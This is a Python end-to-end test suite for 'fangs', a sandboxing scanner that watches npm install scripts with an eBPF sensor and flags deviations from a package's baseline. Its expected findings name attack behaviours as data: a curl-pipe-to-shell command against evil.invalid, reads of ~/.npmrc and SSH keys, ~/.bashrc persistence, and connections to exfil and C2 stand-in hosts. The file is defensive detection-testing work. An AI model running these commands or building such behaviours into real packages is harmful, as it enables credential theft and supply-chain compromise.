"""`fangs scan` end to end, for real, as root: the dependency tree is fetched
on the host from a registry on loopback (tests/fixtures/registry), installed
in the sandbox with every lifecycle script allowed while the eBPF sensor
watches, stored, and diffed against the package's baseline.

One class per sandbox backend with the same assertions (ScanNs, ScanDocker);
ScanErrors covers what fails before anything runs. Run one class with
`python3 test_scan.py ScanNs`. Needs root, node and npm; ScanDocker starts a
docker daemon when none answers (tests/e2e/docker_daemon.py).
"""

import glob
import json
import os
import socket
import subprocess
import sys
import tempfile
import unittest

FANGS = os.environ.get("FANGS_CLI", "fangs")
ROOT = os.environ.get("FANGS_SOURCE_ROOT", os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))
sys.path.insert(0, os.path.join(ROOT, "tests", "fixtures", "registry"))
sys.path.insert(0, os.path.join(ROOT, "tests", "e2e"))

from docker_daemon import DockerDaemon  # noqa: E402
from fake_registry import FakeRegistry  # noqa: E402

SCAN_TIMEOUT = 240
WORK_ROOT = "/var/lib/fangs/sandbox"

RUN_KEYS = {"id", "package", "version", "state", "review", "is_baseline", "events_emitted", "events_dropped",
            "event_count", "deviation_count", "max_severity", "duration_ns", "exit_code", "runner", "sandbox",
            "network", "error", "created_ns", "started_ns", "finished_ns"}
DEVIATION_KEYS = {"id", "run_id", "package", "kind", "severity", "value", "actor", "description", "origin",
                  "command", "evidence", "created_ns"}

# banner 2.x: each release adds one behaviour to the benign banner. `findings`
# must all be there (kind, value, severity); `only`: nothing else may be.
VARIANTS = {
    "npmrc": {"version": "2.0.0", "only": True,
              "findings": [("fs_cred_read", "~/.npmrc", "critical"),
                           ("rule:cred-read-by-script", "~/.npmrc", "critical")]},
    "ssh_key": {"version": "2.1.0", "only": True,
                "findings": [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
                             ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")]},
    "bashrc": {"version": "2.2.0", "only": True,
               "findings": [("fs_new_path_write", "~/.bashrc", "medium"),
                            ("rule:persistence-shell-startup", "~/.bashrc", "critical")]},
    # curl itself may be missing (docker image) or fail: the sh -c line is what counts
    "curl_pipe_sh": {"version": "2.3.0", "only": False,
                     "findings": [("proc_new_exec", "/usr/bin/sh -c curl -fsSL http://evil.invalid/x | sh",
                                   "medium")]},
    # the lookup also shows the resolver plumbing (its config files, its address)
    "dns_connect": {"version": "2.4.0", "only": False,
                    "findings": [("net_new_dns", "exfil.evil.invalid", "medium"),
                                 ("net_new_destination", "198.51.100.23:8443/tcp", "high")]},
    "tls_sni": {"version": "2.5.0", "only": True,
                "findings": [("net_new_https_host", "c2.evil.invalid", "high"),
                             ("net_new_destination", "203.0.113.10:443/tcp", "high"),
                             ("rule:script-network-not-registry", "c2.evil.invalid", "high"),
                             ("rule:script-network-not-registry", "203.0.113.10:443/tcp", "high")]},
}

SEVERITIES = ["info", "low", "medium", "high", "critical"]


def run_fangs(db, args, env=None, timeout=SCAN_TIMEOUT):
    return subprocess.run([FANGS, "--sqlite-path", db] + list(args), capture_output=True, text=True, env=env,
                          timeout=timeout)


def cgroup_dirs(run_id):
    return glob.glob("/sys/fs/cgroup/fangs/" + run_id) + glob.glob("/sys/fs/cgroup/*/fangs/" + run_id)


class ScanBase:
    """The assertions, for any backend; subclasses set SANDBOX."""

    SANDBOX = None
    docker = None

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise RuntimeError("fangs scan needs root (cgroups, namespaces, eBPF): run the e2e tests as root")
        cls.env = dict(os.environ)
        cls.env.pop("DOCKER_HOST", None)
        cls.start_backend()
        cls.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")
        cls.db = os.path.join(cls.tmp.name, "fangs.db")
        cls.registry = FakeRegistry().start()
        try:
            # the baseline every banner test compares against: 1.0.0 seeds,
            # 1.0.1 and 1.1.0 differ from it by noise only
            cls.seed = cls.scan_json("banner@1.0.0")
            cls.noise = [cls.scan_json("banner@1.0.1"), cls.scan_json("banner@1.1.0")]
        except Exception:
            cls.tearDownClass()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()
        cls.tmp.cleanup()
        cls.stop_backend()

    @classmethod
    def start_backend(cls):
        pass

    @classmethod
    def stop_backend(cls):
        pass

    @classmethod
    def scan(cls, spec, *extra, json_out=True):
        args = (["--json"] if json_out else []) + ["scan", "--quiet", "--sandbox", cls.SANDBOX, "--registry",
                                                   cls.registry.url] + list(extra) + [spec]
        return run_fangs(cls.db, args, env=cls.env)

    @classmethod
    def scan_json(cls, spec, *extra, code=0):
        p = cls.scan(spec, *extra)
        if p.returncode != code:
            raise AssertionError("fangs scan %s -> %d (wanted %d)\nstdout: %s\nstderr: %s" %
                                 (spec, p.returncode, code, p.stdout[-4000:], p.stderr[-4000:]))
        out = json.loads(p.stdout)
        if len(out) != 1 or "error" in out[0]:
            raise AssertionError("fangs scan %s: %s" % (spec, out))
        return out[0]

    def jfangs(self, *args):
        p = run_fangs(self.db, ["--json"] + list(args), env=self.env, timeout=60)
        self.assertEqual(p.returncode, 0, "fangs %s: %s" % (" ".join(args), p.stderr))
        return json.loads(p.stdout)

    def assert_clean_run(self, result, package, version, baseline):
        run = result["run"]
        self.assertEqual(set(run), RUN_KEYS)
        self.assertEqual((run["package"], run["version"]), (package, version))
        self.assertEqual(run["state"], "succeeded", run["error"])
        self.assertEqual(run["exit_code"], 0, "the install failed inside the sandbox")
        self.assertEqual(run["sandbox"], self.SANDBOX)
        self.assertEqual(run["network"], "none")
        self.assertEqual(run["runner"], "local")
        self.assertGreater(run["events_emitted"], 100, "the sensor saw (almost) nothing of the install")
        self.assertEqual(run["events_dropped"], 0)
        self.assertEqual(run["event_count"], run["events_emitted"], "every event the sensor emitted is stored")
        self.assertGreater(run["duration_ns"], 0)
        self.assertLessEqual(run["started_ns"], run["finished_ns"])
        self.assertEqual(result["baseline"], baseline)
        self.assertEqual(run["deviation_count"], len(result["deviations"]))
        self.assert_nothing_left(run["id"])

    def assert_nothing_left(self, run_id):
        self.assertFalse(os.path.exists(os.path.join(WORK_ROOT, run_id)), "the run's work directory is left")
        self.assertEqual(cgroup_dirs(run_id), [], "the run's cgroups are left")
        if self.docker:
            self.assertNotIn("fangs-" + run_id, self.docker.containers(), "the run's container is left")

    def assert_origin(self, dev, package, version, script, command):
        self.assertEqual(dev["actor"], "script")
        self.assertEqual(dev["origin"], {"package": package, "version": version, "script": script,
                                         "command": command}, dev)

    def check_variant(self, name, fail_on="high"):
        """Scans a banner variant; checks its findings, their origin and the exit code."""
        v = VARIANTS[name]
        p = self.scan("banner@" + v["version"], "--fail-on", fail_on)
        out = json.loads(p.stdout)[0]
        self.assertNotIn("error", out)
        self.assert_clean_run(out, "banner", v["version"], "pending")
        devs = out["deviations"]
        got = {(d["kind"], d["value"]): d for d in devs}
        for kind, value, severity in v["findings"]:
            self.assertIn((kind, value), got, "missing %s %s in %s" % (kind, value, sorted(got)))
            self.assertEqual(got[(kind, value)]["severity"], severity)
        if v["only"]:
            self.assertEqual(sorted(got), sorted((k, val) for k, val, _ in v["findings"]),
                             "unexpected findings besides the one behaviour")
        for d in devs:
            self.assertEqual(set(d), DEVIATION_KEYS)
            self.assertEqual((d["run_id"], d["package"]), (out["run"]["id"], "banner"))
            self.assert_origin(d, "banner", v["version"], "postinstall", "node postinstall.js")
            self.assertTrue(d["evidence"] and all(isinstance(i, int) for i in d["evidence"]), d)
            if name not in ("npmrc", "ssh_key"):
                self.assertNotEqual(d["kind"], "fs_cred_read", "a variant that steals nothing: %s" % d)
        worst = max(SEVERITIES.index(d["severity"]) for d in devs)
        self.assertEqual(SEVERITIES[worst], out["run"]["max_severity"])
        self.assertEqual(p.returncode, 3 if worst >= SEVERITIES.index(fail_on) else 0,
                         "exit code vs --fail-on %s, stderr: %s" % (fail_on, p.stderr))
        return out, got

    # ---- the baseline -------------------------------------------------------

    def test_seed(self):
        self.assert_clean_run(self.seed, "banner", "1.0.0", "seeded")
        self.assertEqual(self.seed["deviations"], [])
        self.assertTrue(self.seed["run"]["is_baseline"])

    def test_noise_only_releases_deviate_nothing(self):
        for result, version in zip(self.noise, ["1.0.1", "1.1.0"]):
            self.assert_clean_run(result, "banner", version, "joined")
            self.assertEqual(result["deviations"], [], "noise (tmp names, pids, timestamps, version) deviated")
        baseline = self.jfangs("baseline", "list", "--package", "banner")
        self.assertEqual(sorted(r["version"] for r in baseline), ["1.0.0", "1.0.1", "1.1.0"])

    # ---- one behaviour each ---------------------------------------------------

    def test_reads_npmrc(self):
        out, got = self.check_variant("npmrc")
        self.assertEqual(out["run"]["max_severity"], "critical")
        # the evidence names the event a person would look at
        dev = self.jfangs("deviation", "show", str(got[("fs_cred_read", "~/.npmrc")]["id"]))
        opens = [(e["kind"], e.get("path", "")) for e in dev["evidence_events"]]
        self.assertTrue(any(k == "file_open" and p.endswith("/.npmrc") for k, p in opens), opens)

    def test_reads_ssh_key_human_output(self):
        p = self.scan("banner@2.1.0", json_out=False)
        self.assertEqual(p.returncode, 3, p.stderr)
        self.assertIn("banner@2.1.0", p.stdout)
        self.assertIn("~/.ssh/id_rsa", p.stdout)
        self.assertIn("1 rule finding:", p.stdout)
        self.assertIn("verdict: 2 findings, highest critical (fails)", p.stdout)
        run_id = p.stdout.split()[1].rstrip(":")
        devs = self.jfangs("deviation", "list", "--run", run_id)
        self.assertEqual(sorted((d["kind"], d["value"], d["severity"]) for d in devs),
                         [("fs_cred_read", "~/.ssh/id_rsa", "critical"),
                          ("rule:cred-read-by-script", "~/.ssh/id_rsa", "critical")])
        for d in devs:
            self.assert_origin(d, "banner", "2.1.0", "postinstall", "node postinstall.js")
        self.assertIn(run_id, [r["id"] for r in self.jfangs("pending")])

    def test_writes_bashrc(self):
        # medium: below the default --fail-on high, at --fail-on medium
        self.check_variant("bashrc", fail_on="medium")

    def test_downloads_and_runs_a_script(self):
        out, got = self.check_variant("curl_pipe_sh", fail_on="medium")
        sh = got[("proc_new_exec", VARIANTS["curl_pipe_sh"]["findings"][0][1])]
        self.assertEqual(sh["command"], "sh -c curl -fsSL http://evil.invalid/x | sh")

    def test_resolves_and_connects(self):
        self.check_variant("dns_connect")

    def test_tls_to_new_server_name(self):
        self.check_variant("tls_sni")

    # ---- a dependency's script --------------------------------------------------

    def test_dependency_script_through_latest(self):
        seed = self.scan_json("colors-app@1.0.0")
        self.assert_clean_run(seed, "colors-app", "1.0.0", "seeded")
        self.assertEqual(seed["deviations"], [])
        # no version: the registry's latest dist-tag (1.1.0, on palette 1.1.0)
        out = self.scan_json("colors-app", code=3)
        self.assert_clean_run(out, "colors-app", "1.1.0", "pending")
        self.assertEqual([(d["kind"], d["value"], d["severity"]) for d in out["deviations"]],
                         [("rule:cred-read-by-script", "~/.npmrc", "critical"),
                          ("fs_cred_read", "~/.npmrc", "critical")])
        for dev in out["deviations"]:
            self.assertEqual(dev["package"], "colors-app", "the finding belongs to the scanned package")
            self.assert_origin(dev, "palette", "1.1.0", "install", "node build.js")


class ScanNs(ScanBase, unittest.TestCase):
    SANDBOX = "ns"


class ScanDocker(ScanBase, unittest.TestCase):
    SANDBOX = "docker"

    @classmethod
    def start_backend(cls):
        cls.docker = DockerDaemon(ROOT).start()
        cls.env["DOCKER_HOST"] = cls.docker.host

    @classmethod
    def stop_backend(cls):
        if cls.docker:
            cls.docker.stop()


class ScanAttacks(unittest.TestCase):
    """One small malicious package per class of behaviour the sensor once
    missed (benign 1.0.0, attack 1.1.0), in the ns sandbox: the finding must
    be there cold (the package's first run: rules) and after a baseline
    (1.0.0 seeds, then 1.1.0: deviations and rules)."""

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise RuntimeError("fangs scan needs root: run the e2e tests as root")
        cls.env = dict(os.environ)
        cls.env.pop("DOCKER_HOST", None)
        cls.registry = FakeRegistry().start()

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")

    def tearDown(self):
        self.tmp.cleanup()

    def scan(self, db, spec):
        p = run_fangs(db, ["--json", "scan", "--quiet", "--sandbox", "ns", "--registry", self.registry.url, spec],
                      env=self.env)
        out = json.loads(p.stdout)[0] if p.stdout.strip() else None
        self.assertTrue(out and "error" not in out, "scan %s: %s\n%s" % (spec, p.stdout[-2000:], p.stderr[-2000:]))
        self.assertEqual(out["run"]["state"], "succeeded", out["run"]["error"])
        self.assertEqual(out["run"]["exit_code"], 0, "the install failed in the sandbox")
        return out

    def cold_and_after_baseline(self, package):
        """The 1.1.0 findings {(kind, value): severity} cold and after 1.0.0 seeded."""
        cold = self.scan(os.path.join(self.tmp.name, "cold.db"), package + "@1.1.0")
        self.assertEqual(cold["baseline"], "pending")
        db = os.path.join(self.tmp.name, "warm.db")
        seed = self.scan(db, package + "@1.0.0")
        self.assertEqual(seed["baseline"], "seeded")
        self.assertEqual(seed["deviations"], [], "the benign release found something")
        warm = self.scan(db, package + "@1.1.0")
        self.assertEqual(warm["baseline"], "pending")
        for out in (cold, warm):
            for d in out["deviations"]:
                if d["kind"] == "rule:sensor-blinded":  # what was lost has no event, no origin
                    self.assertIsNone(d["origin"])
                    continue
                self.assertEqual(d["origin"]["package"], package, d)
        return ({(d["kind"], d["value"]): d["severity"] for d in cold["deviations"]},
                {(d["kind"], d["value"]): d["severity"] for d in warm["deviations"]}, cold, warm)

    def assert_has(self, got, expected):
        for key, sev in expected.items():
            self.assertIn(key, got, "missing %s in %s" % (key, sorted(got)))
            self.assertEqual(got[key], sev, key)

    def test_network_paths(self):
        cold, warm, _, _ = self.cold_and_after_baseline("netpaths")
        rules = {("rule:script-network-not-registry", "leak.exfil.invalid"): "high",
                 ("rule:script-network-not-registry", "split.evil.invalid"): "high",
                 ("rule:script-network-not-registry", "192.0.2.1:5353/udp"): "high"}
        self.assert_has(cold, rules)
        self.assert_has(warm, rules)
        self.assert_has(warm, {("net_new_dns", "leak.exfil.invalid"): "medium",
                               ("net_new_https_host", "split.evil.invalid"): "high",
                               ("net_new_destination", "192.0.2.1:5353/udp"): "high"})

    def test_privileged_operations(self):
        cold, warm, _, _ = self.cold_and_after_baseline("privops")
        rules = {("rule:signal-outside-tree", "kill SIGCONT sh (run)"): "high",
                 ("rule:namespace-by-script", "unshare user"): "medium",
                 ("rule:kernel-code-load", "bpf prog_load"): "critical"}
        # finit_module is seen where the kernel has module tracepoints (or with
        # FANGS_SENSOR_PROBE_MODULES_RAW): not asserted, it depends on the kernel
        self.assert_has(cold, rules)
        self.assert_has(warm, rules)
        self.assert_has(warm, {("proc_new_syscall", "kill SIGCONT sh (run)"): "high",
                               ("proc_new_syscall", "unshare user"): "high",
                               ("proc_new_syscall", "bpf prog_load"): "high"})

    def test_event_flood(self):
        cold, warm, cold_out, warm_out = self.cold_and_after_baseline("flood")
        for got, out in ((cold, cold_out), (warm, warm_out)):
            run = out["run"]
            self.assertGreater(run["events_dropped"], 0, "250k opens fit the budget?")
            # the budget holds: what is stored is bounded
            self.assertLessEqual(run["event_count"], 200000 + 5000)
            blinded = "sensor blinded: %d events lost" % run["events_dropped"]
            self.assert_has(got, {("rule:sensor-blinded", blinded): "high"})
        # a flood of new paths is 200 findings and one that counts the rest
        reads = [k for k in warm if k[0] == "fs_new_path_read"]
        self.assertLessEqual(len(reads), 201 + 20)
        self.assertTrue(any(" more new values, from " in v for _, v in reads), reads[:5])


def closed_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class ScanErrors(unittest.TestCase):
    """Scans that fail before anything is installed: a clear message naming
    the cause, exit 1, and nothing in the database."""

    @classmethod
    def setUpClass(cls):
        cls.registry = FakeRegistry(corrupt=["banner@1.0.0"], bad_integrity=["banner@1.0.1"]).start()

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")
        self.db = os.path.join(self.tmp.name, "fangs.db")

    def tearDown(self):
        self.tmp.cleanup()

    def assert_fails(self, spec, *messages, registry=None):
        p = run_fangs(self.db, ["scan", "--quiet", "--registry", registry or self.registry.url, spec])
        self.assertEqual(p.returncode, 1, "stdout: %s\nstderr: %s" % (p.stdout, p.stderr))
        self.assertEqual(p.stdout, "")
        line = p.stderr.strip().splitlines()[-1]
        self.assertTrue(line.startswith("fangs: scan of %s failed: " % spec), p.stderr)
        for m in messages:
            self.assertIn(m, line)
        runs = run_fangs(self.db, ["--json", "run", "list"])
        self.assertEqual(runs.returncode, 0, runs.stderr)
        self.assertEqual(json.loads(runs.stdout), [], "a failed scan left a run behind")
        return line

    def test_bad_spec(self):
        self.assert_fails("banner@@@", "not a valid package spec", "Invalid tag name")

    def test_missing_package(self):
        self.assert_fails("no-such-package@1.0.0", "not found in the registry")

    def test_missing_version(self):
        self.assert_fails("banner@9.9.9", "no such version")

    def test_unreachable_registry(self):
        url = "http://127.0.0.1:%d/" % closed_port()
        self.assert_fails("banner@1.0.0", "registry unreachable (connection refused)", url, registry=url)

    def test_corrupt_tarball(self):
        self.assert_fails("banner@1.0.0", "corrupt tarball")

    def test_tarball_integrity_mismatch(self):
        self.assert_fails("banner@1.0.1", "corrupt tarball (integrity check failed)")

    def test_missing_local_directory(self):
        self.assert_fails("./no/such/package", "does not exist")

    def test_json_error_shape(self):
        p = run_fangs(self.db, ["--json", "scan", "--quiet", "--registry", self.registry.url,
                                "no-such-package@1.0.0"])
        self.assertEqual(p.returncode, 1)
        out = json.loads(p.stdout)
        self.assertEqual(len(out), 1)
        self.assertEqual(out[0]["spec"], "no-such-package@1.0.0")
        self.assertIn("not found in the registry", out[0]["error"])


if __name__ == "__main__":
    unittest.main()
